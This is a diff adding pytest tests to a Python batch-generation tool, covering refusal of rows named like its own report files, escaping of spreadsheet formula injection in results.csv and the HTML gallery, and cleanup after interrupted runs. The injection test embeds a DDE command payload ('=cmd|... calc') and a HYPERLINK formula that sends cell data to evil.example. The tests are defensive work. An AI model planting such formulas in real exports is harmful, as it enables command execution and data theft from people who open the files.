@@ -944,3 +944,108 @@ def test_a_batch_of_a_model_whose_cost_is_unknown_finishes_every_row_one_task_at
     assert [o.status for o in outcomes] == ["completed"] * 3, [o.error for o in outcomes]
     tasks = sorted((server.service.tasks[i] for i in server.service.tasks), key=lambda record: record.created_at)
     assert len(tasks) == 3 and tasks[0].ready_at is not None and tasks[0].ready_at <= tasks[1].created_at
+
+
+def temporary_files(folder: Path) -> list[str]:
+    """Every leftover temporary file under folder."""
+    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if p.name.endswith((".part", ".tmp")))
+
+
+def test_a_row_named_like_a_report_is_refused_before_anything_is_paid(tmp_path: Path, media: dict[str, Path],
+                                                                      make_server: type,
+                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
+    """Rows named index.html, RESULTS.CSV or rows.json: the manifest is refused with nothing uploaded or created;
+    with --skip-invalid they are listed as skipped and the other row runs, its reports where they belong (before,
+    the row was paid for and then the batch crashed with IsADirectoryError, on every rerun too)."""
+    server = make_server(api_key=TEST_KEY)
+    use_server(monkeypatch, server)
+    manifest = write_manifest(tmp_path, [
+        {"name": name, "model": "avatar", "image": str(media["portrait"]), "audio": str(media["speech"])}
+        for name in ("index.html", "RESULTS.CSV", "rows.json", "fine")])
+    out = tmp_path / "out"
+    with pytest.raises(ManifestError) as info:
+        run_batch(manifest, out, progress=False)
+    assert [p.split(":")[0] for p in info.value.problems] == ["row 2", "row 3", "row 4"]
+    assert all("taken by the batch's own files" in p for p in info.value.problems)
+    assert server.stats()["created"] == server.stats()["uploads"] == 0 and not out.exists()
+
+    outcomes = run_batch(manifest, out, progress=False, skip_invalid=True)
+    assert [(o.name, o.status) for o in outcomes] == [("index.html", "skipped"), ("RESULTS.CSV", "skipped"),
+                                                      ("rows.json", "skipped"), ("fine", "completed")]
+    assert all((out / name).is_file() for name in ("index.html", "results.csv", "rows.json"))
+    assert server.stats()["created"] == 1 and temporary_files(out) == []
+
+
+def test_formulas_in_names_models_inputs_and_task_ids_are_written_inert(tmp_path: Path,
+                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
+    """A service answering the task id =cmd|' /C calc'!A0, and invalid rows (run with --skip-invalid) whose name,
+    model or input starts like a formula: no cell of results.csv starts like one; the gallery shows them escaped."""
+    from .peers import peers
+    from .test_hostile_peers import AUDIO, IMAGE, fake_api
+
+    crafted = "=cmd|' /C calc'!A0"
+    started = peers()
+    api = next(started)(fake_api(crafted))  # a Vtrix look-alike on loopback that answers the crafted id
+    try:
+        monkeypatch.setenv("VTRIX_API_KEY", TEST_KEY)
+        monkeypatch.setenv("VTRIX_GENERATION_URL", api.url)
+        monkeypatch.setenv("SPARK_NB_BACKEND", "cloud")
+        manifest = write_manifest(tmp_path, [
+            {"name": "ok", "model": "avatar", "image": IMAGE, "audio": AUDIO},
+            {"name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "model": "avatar", "image": IMAGE,
+             "audio": AUDIO},
+            {"name": "plus", "model": "+cmd|' /C calc'!A0", "image": IMAGE, "audio": AUDIO},
+            {"name": "@SUM(A1)", "model": "avatar", "image": "-2+3", "audio": "=1+1"},
+            {"name": "x\r=1+1", "model": "avatar", "image": IMAGE, "audio": AUDIO},
+        ])
+        out = tmp_path / "out"
+        outcomes = run_batch(manifest, out, progress=False, skip_invalid=True, timeout=60)
+    finally:
+        next(started, None)  # stops the peer
+    assert [o.status for o in outcomes] == ["completed"] + ["skipped"] * 4, [o.error for o in outcomes]
+    assert outcomes[0].task_id == crafted
+    with (out / "results.csv").open(newline="") as f:
+        table = list(csv.DictReader(f))
+    starts = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
+    for row in table:
+        assert not any(cell.lstrip(" ").startswith(starts) for cell in row.values()), row
+    assert table[0]["task_id"] == "'" + crafted and table[1]["name"].startswith("'=HYPERLINK(")
+    assert table[2]["model"] == "'+cmd|' /C calc'!A0"
+    gallery = (out / "index.html").read_text()
+    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)" in gallery
+    assert "\r" not in gallery and temporary_files(out) == []
+
+
+def test_an_interrupted_batch_leaves_no_temporary_file(three_rows: Path, tmp_path: Path, make_server: type,
+                                                       monkeypatch: pytest.MonkeyPatch) -> None:
+    """Ctrl-C (SIGINT) mid-batch: whole reports and not one .part or .tmp file; SIGKILL of the batch and its
+    kernels mid-batch, then a rerun: the rerun's reports are whole and nothing temporary is left either."""
+    server = make_server(api_key=TEST_KEY, latency=6)
+    use_server(monkeypatch, server)
+    out = tmp_path / "out"
+    script = ("import signal, sys; signal.signal(signal.SIGINT, signal.default_int_handler); "
+              "from spark_nb._cli import main; sys.exit(main(sys.argv[1:]))")
+    for how, submitted in ((signal.SIGINT, 2), (signal.SIGKILL, 3)):
+        batch = subprocess.Popen([sys.executable, "-c", script, "batch", str(three_rows), "--out", str(out),
+                                  "--concurrency", str(submitted)], start_new_session=True,
+                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        try:
+            deadline = time.monotonic() + 120
+            while sum(state == "submitted" for _, state, _ in journal_states(out)) < submitted:
+                assert batch.poll() is None, "the batch ended before it could be stopped"
+                assert time.monotonic() < deadline, f"rows never submitted: {journal_states(out)}"
+                time.sleep(0.1)
+            os.killpg(batch.pid, how)
+            batch.wait(timeout=30)
+        finally:
+            if batch.poll() is None:
+                os.killpg(batch.pid, signal.SIGKILL)
+                batch.wait(timeout=30)
+        if how == signal.SIGINT:
+            assert batch.returncode == 130 and temporary_files(out) == []
+            with (out / "results.csv").open() as f:
+                assert len(list(csv.DictReader(f))) == 3
+            assert (out / "index.html").read_text().rstrip().endswith("</html>")
+    outcomes = run_batch(three_rows, out, concurrency=3, progress=False)
+    assert [o.status for o in outcomes] == ["completed"] * 3
+    assert temporary_files(out) == []
